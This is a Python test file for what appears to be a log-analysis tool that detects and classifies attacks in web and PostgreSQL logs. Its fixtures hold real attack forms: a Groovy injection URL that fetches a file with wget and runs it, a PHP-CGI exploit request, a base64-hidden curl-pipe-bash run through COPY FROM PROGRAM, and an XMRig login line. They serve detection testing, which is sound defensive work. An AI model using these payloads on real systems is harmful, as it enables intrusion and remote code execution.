"""What excuses or proves must be about the thing itself: a path that was asked for, a flaw that was aimed at, a command that ran."""

from __future__ import annotations

from pathlib import Path

from tests.app.running import Kanaria

SEARCH = "/bin/get/Main/SolrSearch?media=rss&text=%7d%7d%7d%7b%7bgroovy%7d%7d%22{}%22.execute()%7b%7b%2fgroovy%7d%7d"
LINE = '{} - - [21/Oct/2025:06:{:02d}:00 +0000] "{} {} HTTP/1.1" {} 512 "-" "Mozilla/5.0"\n'


def test_the_name_of_a_dropped_file_in_another_attack_is_no_request_for_it(tmp_path: Path, kanaria: Kanaria) -> None:
    fetch = SEARCH.format("wget%20-qO%20%2ftmp%2fkx77201%20http%3a%2f%2f203.0.113.9%2fp")
    run = SEARCH.format("bash%20%2ftmp%2fkx77201")
    (tmp_path / "a.log").write_text(
        LINE.format("198.51.100.66", 1, "GET", fetch, 200) + LINE.format("198.51.100.66", 9, "GET", run, 200)
    )
    incident = kanaria("analyze", "--format", "json", "a.log").incident
    assert (incident["outcome"]["value"], incident["severity"]) == ("possible", "high")
    asked = LINE.format("198.51.100.66", 11, "GET", "/kx77201", 200)
    (tmp_path / "a.log").write_text((tmp_path / "a.log").read_text() + asked)
    again = kanaria("analyze", "--format", "json", "a.log").incident
    assert again["outcome"]["bits"] > incident["outcome"]["bits"], "asked for by its path, it speaks for success"


def test_a_private_address_in_front_excuses_no_exploit(tmp_path: Path, kanaria: Kanaria) -> None:
    order = "/cgi-bin/php?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E+%2D%6E"
    (tmp_path / "a.log").write_text(LINE.format("172.17.0.1", 1, "POST", order, 500))
    incident = kanaria("analyze", "--format", "json", "a.log").incident
    assert incident["hypotheses"][0]["name"] == "exploitation_attempt"
    assert "CVE-2012-1823" in {item["cve"] for item in incident["vulnerabilities"]}


def test_a_statement_that_runs_hidden_text_is_what_the_machine_ran(tmp_path: Path, kanaria: Kanaria) -> None:
    (tmp_path / "postgresql.log").write_text(
        "2026-01-14 09:05:00.827 UTC [36] LOG:  statement: COPY cmd_output FROM PROGRAM "
        "'echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC45L2Euc2h8YmFzaAo=|base64 -d|bash';\n"
        "2026-01-14 09:06:00.100 UTC [36] LOG:  statement: SELECT 1;\n"
    )
    done = kanaria("analyze", "--format", "json", "postgresql.log")
    assert done.status == 1
    assert done.document["coverage"]["unread"] == 2
    assert [finding["rule"] for finding in done.incident["findings"]] == ["host_command_delivers"]
    assert done.incident["hypotheses"][0]["name"] == "compromised_device"


def test_the_check_of_a_botnet_for_rivals_is_named_as_one_possible_sender(kanaria: Kanaria) -> None:
    names = ",".join(f'\\"{name}\\"' for name in ("cn/1", "cn/2", "cn/r", "cn/xao", "rx/0", "rx/keva"))
    sent = (
        '"{\\"id\\":1,\\"jsonrpc\\":\\"2.0\\",\\"method\\":\\"login\\",\\"params\\":{\\"login\\":\\"x\\",\\"pass\\":null,'
        f'\\"agent\\":\\"XMRig/5.13.1\\",\\"algo\\":[{names}]}}}}\\n" 400 166 "-" "-"'
    )
    told = kanaria("explain", "--full", sent)
    assert "LemonDuck" in told.out and "one possible sender" in " ".join(told.out.split())
    other = kanaria("explain", "--full", sent.replace("5.13.1", "6.21.0"))
    assert "LemonDuck" not in other.out
